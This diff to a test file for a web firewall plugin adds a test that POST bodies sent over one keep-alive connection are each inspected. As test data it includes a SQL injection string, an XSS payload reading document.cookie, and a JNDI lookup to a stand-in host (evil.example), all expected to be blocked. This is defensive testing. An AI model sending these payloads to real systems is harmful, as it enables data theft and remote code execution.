@@ -213,20 +213,28 @@ describe('firewallPlugin', () => {
     expect(response.statusCode).toBe(413);
   });
 
-  it('judges every request on one connection, reusing a verdict only for a byte-identical request', async () => {
+  /** A server listening on loopback and a client that sends every request over one keep-alive connection. */
+  async function overOneConnection() {
     const server = await build();
     const base = await server.listen({ host: '127.0.0.1', port: 0 });
     const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
     const ports = new Set<number>();
-    const get = (path: string, headers: Record<string, string> = {}) =>
+    const send = (method: string, path: string, headers: Record<string, string> = {}, body?: string) =>
       new Promise<number>((resolve, reject) => {
-        const request = http.get(`${base}${path}`, { agent, headers }, (response) => {
+        const request = http.request(`${base}${path}`, { method, agent, headers }, (response) => {
           response.resume();
           response.on('end', () => resolve(response.statusCode ?? 0));
         });
         request.on('socket', (socket) => socket.once('connect', () => ports.add(socket.localPort ?? 0)));
         request.on('error', reject);
+        request.end(body);
       });
+    return { server, send, ports, close: () => agent.destroy() };
+  }
+
+  it('judges every request on one connection, reusing a verdict only for a byte-identical request', async () => {
+    const { server, send, ports, close } = await overOneConnection();
+    const get = (path: string, headers: Record<string, string> = {}) => send('GET', path, headers);
     try {
       const statuses = [
         await get('/api/v1/assets?search=tech'),
@@ -240,7 +248,39 @@ describe('firewallPlugin', () => {
       expect(statuses).toEqual([200, 200, 403, 200, 403, 403]);
       expect(server.firewall.counters).toMatchObject({ inspected: 6, blocked: 3 });
     } finally {
-      agent.destroy();
+      close();
+    }
+  });
+
+  it('judges every body sent with the same head on one connection, and a changed head in full', async () => {
+    const { server, send, ports, close } = await overOneConnection();
+    // Bodies of one length, so the heads (Content-Length included) are byte-identical.
+    const note = (text: string) => JSON.stringify({ symbol: 'AAPL', note: text.padEnd(40, '.') });
+    const clean = note('buy the dip');
+    const sqli = note("1' union select password from users--");
+    const xss = note('<script>alert(document.cookie)</script>');
+    expect(new Set([clean, sqli, xss].map((b) => b.length)).size).toBe(1);
+    const json = { 'content-type': 'application/json' };
+    const post = (body: string, headers: Record<string, string> = {}) =>
+      send('POST', '/api/v1/orders', { ...json, ...headers }, body);
+    try {
+      const statuses = [
+        await post(clean),
+        await post(sqli),
+        await post(clean),
+        await post(xss),
+        await post(xss),
+        await post(clean, { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
+        await post(clean),
+        // Another media type goes through the body hook that buffers it: judged the same way.
+        await send('POST', '/api/v1/orders', { 'content-type': 'text/plain' }, sqli),
+        await send('POST', '/api/v1/orders', { 'content-type': 'text/plain' }, clean),
+      ];
+      expect(ports.size).toBe(1);
+      expect(statuses).toEqual([200, 403, 200, 403, 403, 403, 200, 403, 200]);
+      expect(server.firewall.counters).toMatchObject({ inspected: 9, blocked: 5 });
+    } finally {
+      close();
     }
   });
 });
